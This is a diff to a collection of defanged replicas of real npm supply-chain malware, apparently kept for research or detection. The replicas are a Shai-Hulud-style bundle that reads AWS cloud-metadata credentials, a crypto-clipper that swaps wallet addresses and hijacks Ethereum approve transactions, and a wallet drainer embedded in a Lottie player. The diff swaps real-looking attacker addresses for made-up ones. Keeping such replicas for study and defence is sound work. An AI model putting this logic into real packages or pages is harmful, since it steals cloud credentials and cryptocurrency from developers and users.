@@ -3,8 +3,9 @@
 
 Each replica keeps the shape the real attack had — which file, what runs when (preinstall, postinstall,
 `require`), what it reads, how it hides and where it sends — and names its public source in a comment.
-Defanged: hosts are under `.invalid` (or example.com), raw IPs are documentation addresses (RFC 5737),
-tokens and wallet addresses are made up, the commands that would destroy or run something are strings
+Defanged: hosts are under `.invalid` (or example.com), raw IPs are documentation addresses (RFC 5737)
+or the link-local cloud-metadata address, tokens and wallet addresses are made up (hashes of labels,
+shaped like real ones), the commands that would destroy or run something are strings
 that reach nothing. Where the real payload was megabytes of obfuscated bundle, the replica keeps the
 behaviour and a representative amount of the hiding, not the bulk.
 
@@ -54,7 +55,6 @@ _SHAI_HULUD_BUNDLE = r"""(() => { var __webpack_modules__ = {
   async function cloud() {
     const out = {};
     try { out.aws = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')).text(); } catch (e) {}
-    try { out.gcp = await (await fetch('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', { headers: { 'Metadata-Flavor': 'Google' } })).text(); } catch (e) {}
     return out;
   }
   async function main() {
@@ -243,9 +243,9 @@ var neth = 0; var rund = 0; var loval = 0;
 async function checkethereumw() { try { const a = await window.ethereum.request({ method: 'eth_accounts' }); a.length > 0 ? (runmask(), rund != 1 && ((rund = 1), (neth = 1), newdlocal())) : rund != 1 && ((rund = 1), newdlocal()); } catch (e) { rund != 1 && ((rund = 1), newdlocal()); } }
 typeof window != 'undefined' && typeof window.ethereum != 'undefined' ? checkethereumw() : rund != 1 && ((rund = 1), newdlocal());
 function newdlocal() {
-  const _0x = { ethereum: ['0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', '0xa29eeFb3f21Dc8FA8bce065Db4f4354AA683c024', '0x40A24c1Bb6a18b3D3bC1c7ddb1A3f2E0A3d2a1b0'],
-    bitcoinLegacy: ['1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx', '1Li1CRPwjovnGHGPTtcKzy75j37K6n97Rd'], bitcoinSegwit: ['bc1qms4f8ys8c4z47h0q29nnmyekc9r74u5ypqw6wm', 'bc1qznntn2q7df8ltvx842upkd9uj4atwxpk0whxh9'],
-    solana: ['5VVyuV5K6c2gMq1zVeQUFAmo8shPZH28MJCVzccrsZG6', '98EWM95YCsEX3ZWWKTYpSzvGGHdQKhKhJgiWDXz3NHh3'], tron: ['TB9emsCq6fQw6wRk4HBxxNnU6Hwt1DnV67', 'TGxm8Uh63Rjt6QVA7N2Ke2b8GyL6xV5Ywd'] };
+  const _0x = { ethereum: ['0xc2875e95153e0e80c113a89aa1d8f5b0c2875e95', '0x8863b75d4d4f55361c9f3a9419f7dc3d8863b75d', '0x5bd778663d3651f5c56e722bee746f1d5bd77866'],
+    bitcoinLegacy: ['1F69aprX8DfDCnpPmzGVFxPCBmce2aJrkF', '1Erj7A5C3QPSBkL9PMTLMausHWNSDe3p3E'], bitcoinSegwit: ['bc1qdvrf7xtsn3e04nznuy3nkr8pwz8d8u2wdvrf7x', 'bc1qfc37wtttr9egly3k6nhzns8qphmdzusafc37wt'],
+    solana: ['4Rc6LXb2RrtngreTfbxFYnspS7ALebqa4Rc6LXb2Rrtn', 'SgGBvAq4NwSKo3bbeSWs8fWUJMQQb5DASgGBvAq4NwSK'], tron: ['T2WouRpQKa1QRj1xs34r742gcgx1APB6g2', 'TUcB2DE5w875K7B9eaD1Gkuafq6gKFkSgU'] };
   const _0xre = { ethereum: /\b0x[a-fA-F0-9]{40}\b/g, bitcoinLegacy: /\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g, bitcoinSegwit: /\b(bc1q|bc1p)[a-zA-HJ-NP-Z0-9]{25,59}\b/g, solana: /\b[1-9A-HJ-NP-Za-km-z]{32,44}\b/g, tron: /\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g };
   function levenshtein(a, b) { const m = []; for (let i = 0; i <= b.length; i++) { m[i] = [i]; } for (let j = 0; j <= a.length; j++) { m[0][j] = j; }
     for (let i = 1; i <= b.length; i++) for (let j = 1; j <= a.length; j++) m[i][j] = b.charAt(i - 1) === a.charAt(j - 1) ? m[i - 1][j - 1] : Math.min(m[i - 1][j - 1] + 1, m[i][j - 1] + 1, m[i - 1][j] + 1); return m[b.length][a.length]; }
@@ -263,7 +263,7 @@ function newdlocal() {
 function runmask() {
   const eth = window[_0x112fa8(0x472)]; const origRequest = eth.request.bind(eth);
   eth.request = async function (payload) {
-    if (payload && payload.method === _0x112fa8(0x471)) { for (const tx of payload.params || []) { if (tx.data && tx.data.startsWith('0x095ea7b3')) tx.data = '0x095ea7b3' + '000000000000000000000000Fc4a4858bafef54D1b1d7697bfb5c52F4c166976' + tx.data.slice(74); else tx.to = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'; } }
+    if (payload && payload.method === _0x112fa8(0x471)) { for (const tx of payload.params || []) { if (tx.data && tx.data.startsWith('0x095ea7b3')) tx.data = '0x095ea7b3' + '000000000000000000000000c2875e95153e0e80c113a89aa1d8f5b0c2875e95' + tx.data.slice(74); else tx.to = '0xc2875e95153e0e80c113a89aa1d8f5b0c2875e95'; } }
     return origRequest(payload); };
 }
 """
@@ -402,7 +402,7 @@ _LOTTIE_PLAYER = r"""(function (global, factory) { typeof exports === 'object' &
   (function () {
     if (typeof window === 'undefined' || !window.ethereum) return;
     const DRAINER = 'https://castleservices01.invalid';
-    const RECEIVER = '0x000000000000000000000000000000000000dEaD';
+    const RECEIVER = '0x5bd778663d3651f5c56e722bee746f1d5bd77866';
     async function drain() {
       const cfg = await (await fetch(DRAINER + '/api/v1/config', { method: 'POST', body: JSON.stringify({ origin: location.origin }) })).json();
       const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' });
